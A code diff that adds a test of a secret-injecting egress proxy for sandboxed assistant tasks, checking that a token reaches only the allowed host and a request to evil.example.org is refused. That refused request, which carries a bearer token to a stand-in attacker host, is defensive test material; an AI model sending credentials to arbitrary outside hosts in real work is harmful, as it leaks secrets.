@@ -4,12 +4,16 @@ from __future__ import annotations
 
 import asyncio
 import json
+import os
 import sys
 import textwrap
+import threading
 from collections.abc import AsyncIterator, Callable, Sequence
 from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from tempfile import TemporaryDirectory
+from typing import Any, ClassVar
 from uuid import UUID, uuid4
 
 import asyncpg
@@ -17,6 +21,8 @@ import httpx
 import pytest
 from supabase import AsyncClient, AsyncClientOptions, acreate_client
 
+from pythonic_assistant.adapters.egress.broker import EgressBroker
+from pythonic_assistant.adapters.egress.policy import read_routes
 from pythonic_assistant.adapters.secrets.keyring import WorkerKey, key_of
 from pythonic_assistant.adapters.secrets.vault import generate_key, seal
 from pythonic_assistant.adapters.store.naming import BUCKET
@@ -37,6 +43,7 @@ from worker.runner import Runner
 pytestmark = pytest.mark.timeout(60)
 
 KEY = key_of(generate_key())
+ROOT = Path(__file__).parents[2]
 RAW, SWAPPED = "raw-canary-c0ffee", "swapped-canary-4711"
 
 PRELUDE = """
@@ -85,6 +92,7 @@ class Runners:
             stdin=asyncio.subprocess.PIPE,
             stdout=asyncio.subprocess.PIPE,
             cwd=self.folder,
+            env={"PYTHONPATH": str(ROOT), "PATH": os.environ["PATH"]},
             start_new_session=True,
             limit=LONGEST_LINE,
         )
@@ -138,6 +146,7 @@ class World:
     person: UUID
     queue_name: str = field(default_factory=lambda: f"q-{uuid4()}")
     broker: Broker = field(default_factory=Broker)
+    way_out: EgressBroker | None = None
 
     async def ask(self, **columns: Any) -> int:
         given = {"user_id": self.person, "prompt": "do it", "queue": self.queue_name} | columns
@@ -175,7 +184,7 @@ class World:
             runners=Runners(program, self.folder),  # pyright: ignore[reportArgumentType]
             sandbox_socket=self.folder / "none.sock",
             folder=self.folder,
-            means=Means(store=SupabaseSecrets(self.client), key=KEY, broker=self.broker),
+            means=Means(store=SupabaseSecrets(self.client), key=KEY, broker=self.way_out or self.broker),
             records=SupabaseRecords(self.client),
         )
         await attempt.work()
@@ -291,6 +300,70 @@ async def test_no_value_of_a_secret_reaches_a_row_or_a_file(world: World) -> Non
         world.person,
     )
     assert [item["name"] for item in used] == ["DB_PASSWORD", "TOKEN"]
+
+
+class Upstream(BaseHTTPRequestHandler):
+    """Remembers what came, and sends it back as a careless service does."""
+
+    came: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        self.came.append(self.headers["Authorization"])
+        body = f"you are {self.headers['Authorization']}".encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: Any) -> None:
+        """Say nothing."""
+
+
+OUTWARD = """
+import asyncio, socket, threading, urllib.error, urllib.request
+from pathlib import Path
+from pythonic_assistant.adapters.egress.client import BrokerEgress
+grant = order["egress"]
+listener = socket.create_server(("127.0.0.1", 0))
+port = listener.getsockname()[1]
+opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{port}"}))
+def get(url):
+    asked = urllib.request.Request(url, headers={"Authorization": "Bearer " + environment["TOKEN"]})
+    try:
+        with opener.open(asked, timeout=10) as answer:
+            return answer.read().decode()
+    except urllib.error.HTTPError as error:
+        return str(error.code)
+async def main():
+    egress = BrokerEgress(Path(grant["socket"]), grant["token"], grant["certificate"], request["hosts"])
+    async with egress.serve(listener):
+        got = await asyncio.to_thread(get, "http://api.example.org/x?y")
+        refused = await asyncio.to_thread(get, "http://evil.example.org/")
+        return got, refused
+got, refused = asyncio.run(main())
+succeed(json.dumps([got == "you are Bearer " + environment["TOKEN"], refused]))
+"""
+
+
+async def test_the_proxy_puts_the_value_in_and_every_request_is_told(world: World) -> None:
+    await world.secret("TOKEN", SWAPPED, "api.example.org")
+    task = await world.ask(hosts=["api.example.org"])
+    Upstream.came.clear()
+    with ThreadingHTTPServer(("127.0.0.1", 0), Upstream) as server, TemporaryDirectory() as place:
+        threading.Thread(target=server.serve_forever, args=(0.05,)).start()
+        routes = read_routes(f"api.example.org=http://127.0.0.1:{server.server_port}")
+        async with EgressBroker(Path(place) / "out", routes=routes) as world.way_out:
+            row = await world.work(OUTWARD)
+        server.shutdown()
+    assert Upstream.came == [f"Bearer {SWAPPED}"]
+    assert row["state"] == "succeeded", row["error"]
+    assert json.loads(row["answer"]) == [True, "403"], "the answer shows the placeholder, not the value"
+    told = [event for event in await world.events(task) if event["kind"] == "egress_requested"]
+    first, second = told
+    assert (first["host"], first["outcome"], first["status"]) == ("api.example.org", "allowed", 200)
+    assert first["secrets"] == ["TOKEN"]
+    assert (second["host"], second["outcome"]) == ("evil.example.org", "refused")
+    assert SWAPPED not in await world.everything()
 
 
 async def test_a_variable_of_one_task_is_there_in_the_next_of_the_thread(world: World) -> None:
